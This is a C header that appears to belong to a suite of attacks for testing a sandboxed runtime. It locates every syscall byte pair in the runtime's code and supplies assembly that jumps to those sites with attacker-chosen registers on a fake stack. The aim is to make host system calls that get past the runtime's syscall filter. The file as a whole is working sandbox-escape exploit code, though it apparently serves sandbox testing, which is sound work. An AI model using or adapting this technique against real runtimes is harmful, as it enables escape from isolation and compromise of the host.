/* Jumping to the `syscall` instructions of the runtime's text with registers of one's own. */
#ifndef JUMP_H
#define JUMP_H
#include "attack.h"

enum { MAX_SITES = 512, FAKE_STACK = 1 << 16 };

/* Addresses of every byte pair 0f 05 in the runtime, aligned to an instruction or not. */
static uint64_t sites[MAX_SITES];
static int site_count;

static UNUSED void find_sites(void)
{
	uint64_t end = PLATFORM_BASE;
	while (end < PLATFORM_BASE + RUNTIME_MAX && is_readable(end))
		end += PAGE;
	for (uint64_t at = PLATFORM_BASE; at + 1 < end && site_count < MAX_SITES; at++)
		if (!memcmp((void *)at, "\x0f\x05", 2))
			sites[site_count++] = at;
	NEED(site_count > 0);
}

struct jump {
	uint64_t number, args[6];
	uint64_t others; /* rbx, rbp, r12 to r15 */
};

/*
 * Jumps to the address with these registers, on a stack full of addresses of jump_pad. What is behind the instruction
 * may well return: then this returns rax. It may do anything else instead.
 */
long jump_to(uint64_t address, void *stack, const struct jump *registers);
__asm__(".text\n"
	".globl jump_to, jump_pad\n"
	"jump_to:\n"
	"push %rbx; push %rbp; push %r12; push %r13; push %r14; push %r15\n"
	"mov %rsp, (%rsi)\n"
	"mov %rdi, %r11\n"
	"lea 0x8000(%rsi), %rsp\n"
	"mov 56(%rdx), %rbx\n"
	"mov %rbx, %rbp; mov %rbx, %r12; mov %rbx, %r13; mov %rbx, %r14; mov %rbx, %r15\n"
	"mov (%rdx), %rax\n"
	"mov 8(%rdx), %rdi\n"
	"mov 16(%rdx), %rsi\n"
	"mov 32(%rdx), %r10\n"
	"mov 40(%rdx), %r8\n"
	"mov 48(%rdx), %r9\n"
	"mov 24(%rdx), %rdx\n"
	"jmp *%r11\n"
	"jump_pad:\n"
	"mov %rsp, %rcx\n"
	"and $-0x10000, %rcx\n"
	"mov (%rcx), %rsp\n"
	"cld\n"
	"pop %r15; pop %r14; pop %r13; pop %r12; pop %rbp; pop %rbx\n"
	"ret\n");
extern char jump_pad[];

/* A stack for jumps and a page of zeroes that the other registers point to. */
static UNUSED void *new_stack(void)
{
	char *map = mmap(NULL, 3 * FAKE_STACK, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	NEED(map != MAP_FAILED);
	return (char *)(((uintptr_t)map + FAKE_STACK - 1) & -(uintptr_t)FAKE_STACK);
}

/* A host call by the site, by registers alone. */
static UNUSED long native_call(uint64_t site, void *stack, long number, uint64_t a, uint64_t b, uint64_t c, uint64_t d,
			uint64_t e, uint64_t f)
{
	uint64_t *words = stack;
	/* What lies about may be used as a pointer: it points to something. */
	struct jump jump = { number, { a, b, c, d, e, f }, (uint64_t)stack + FAKE_STACK };
	for (int i = 0x7000 / 8; i < 0xf000 / 8; i++)
		words[i] = (uint64_t)jump_pad;
	return jump_to(site, stack, &jump);
}

static void try_site(uint64_t site)
{
	/* Own memory, which any filter has to allow. */
	char *page = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	void *stack = new_stack();
	for (int i = 0; i < 3; i++) {
		page[0] = 1;
		if (native_call(site, stack, SYS_madvise, (uint64_t)page, PAGE, MADV_DONTNEED, 0, 0, 0) != 0 || page[0] != 0)
			_exit(1);
	}
	_exit(native_call(site, stack, SYS_munmap, 1, PAGE, 0, 0, 0, 0) == -EINVAL ? 0 : 1);
}

/* A site that comes back to its caller, with errors too, so that one process can make many host calls; 0 if there is none. */
static UNUSED uint64_t find_returning_site(void)
{
	for (int i = 0; i < site_count; i++)
		if (try_attack("own memory", try_site, sites[i]) == 0)
			return sites[i];
	return 0;
}
#endif
